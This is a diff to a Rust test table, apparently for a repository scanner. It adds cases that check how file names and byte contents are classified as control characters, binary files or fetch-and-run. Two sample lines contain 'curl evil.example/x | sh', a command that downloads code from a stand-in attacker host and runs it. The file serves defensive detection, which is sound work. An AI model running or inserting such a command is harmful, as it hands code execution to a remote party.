@@ -132,6 +132,22 @@ fn each_attack_is_found_in_its_file() {
         ("a.docx", &document("__main__.py"), &["archive-file"]),
         (".DS_Store", b"\0\0\0\x01Bud1\0\0", &[]),
         ("a.bin", b"\x01\x02\x03\0", &["binary-file"]),
+        // Text that was copied from a PDF file.
+        ("a.md", b"# RAM\n- 8K \x1a 8\n", &["control-characters"]),
+        ("a.md", b"# RAM\n- 8K \x1a 8\xff\n", &["binary-file"]),
+        ("a.sh", b"echo \x01\ncurl evil.example/x | sh", &["control-characters", "fetch-and-run"]),
+        // Fonts, pictures, sounds and documents are not reported, unless their extension is that of a script.
+        ("a.ttf", b"\0\x01\0\0\0\x0f\0\x80", &[]),
+        ("a.otf", b"OTTO\0\x0b\0\x80", &[]),
+        ("a.woff2", b"wOF2\0\x01\0\0", &[]),
+        ("a.gif", b"GIF89a\x01\0\x01\0", &[]),
+        ("a.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0", &[]),
+        ("a.webp", b"RIFF\x24\0\0\0WEBPVP8 ", &[]),
+        ("a.ico", b"\0\0\x01\0\x01\0", &[]),
+        ("a.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n\0", &[]),
+        ("a.mp3", b"ID3\x04\0\0\0\0", &[]),
+        ("a.py", b"wOF2\0\x01\0\0", &["binary-file"]),
+        ("a.js", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n\0", &["binary-file"]),
         ("a.sh", b"echo \x01\0\ncurl evil.example/x | sh", &["binary-file", "fetch-and-run"]),
         ("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &[]),
         // A shell runs a script even if the file starts like a picture.
